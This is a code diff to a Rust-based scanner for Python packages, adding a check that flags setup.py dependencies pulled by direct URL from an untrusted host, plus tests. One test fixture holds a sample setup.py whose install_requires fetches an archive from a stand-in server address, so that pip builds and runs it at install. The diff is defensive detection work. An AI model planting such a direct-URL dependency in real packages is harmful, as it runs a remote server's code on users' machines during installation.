@@ -3,7 +3,7 @@
 use ruff_python_ast::{Expr, ExprCall, StmtClassDef};
 use ruff_text_size::Ranged;
 
-use crate::finding::{Category, Rule};
+use crate::finding::{Category, ExecContext, Rule};
 use crate::walker::Checker;
 
 /// The detector.
@@ -119,6 +119,7 @@ fn check_hidden_dependencies(checker: &mut Checker, call: &ExprCall) {
         return;
     };
     for element in &list.elts {
+        check_direct_reference(checker, element);
         if matches!(element, Expr::StringLiteral(_)) {
             continue;
         }
@@ -151,9 +152,58 @@ fn check_hidden_dependencies(checker: &mut Checker, call: &ExprCall) {
     }
 }
 
+/// `install_requires=['requests @ http://203.0.113.9/requests.tar.gz']`: pip downloads that
+/// archive and builds it, running its setup.py, while installing this package. PyPI refuses
+/// such direct references in uploaded metadata, so only a setup.py can still carry one, and one
+/// pointing anywhere but the index or a source forge installs code from the author's server.
+fn check_direct_reference(checker: &mut Checker, element: &Expr) {
+    let Some(requirement) = checker.fold(element).and_then(|v| v.as_text()) else {
+        return;
+    };
+    let Some((name, target)) = requirement
+        .split_once(" @ ")
+        .or_else(|| requirement.split_once('@'))
+    else {
+        return;
+    };
+    let Some(host) = super::process_spawn::untrusted_archive_host(
+        std::iter::once(target.split(';').next().unwrap_or(target).trim()),
+        false,
+    ) else {
+        return;
+    };
+    let severity = if checker.context() == ExecContext::TestOrDocs {
+        0.1
+    } else {
+        0.6
+    };
+    checker.report(
+        &RULE,
+        element.range(),
+        format!(
+            "setup() requires `{}` straight from {host}, which pip downloads and builds while installing",
+            name.trim()
+        ),
+        severity,
+        vec!["install-hook", "direct-url-dependency"],
+    );
+}
+
 #[cfg(test)]
 mod tests {
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn a_dependency_from_the_authors_server_is_installed_code() {
+        let code = "from setuptools import setup\nsetup(name='x', install_requires=['requests @ http://203.0.113.9/requests-2.31.0.tar.gz'])\n";
+        assert!(max_severity("p-1/setup.py", code, "WH100") >= 0.6);
+        for fine in [
+            "from setuptools import setup\nsetup(name='x', install_requires=['lib @ git+https://github.com/o/lib.git@v1'])\n",
+            "from setuptools import setup\nsetup(name='x', install_requires=['requests>=2', 'a; python_version<\"3.8\"'])\n",
+        ] {
+            assert!(max_severity("p-1/setup.py", fine, "WH100") < 0.1, "{fine}");
+        }
+    }
 
     #[test]
     fn triggers_on_custom_install() {
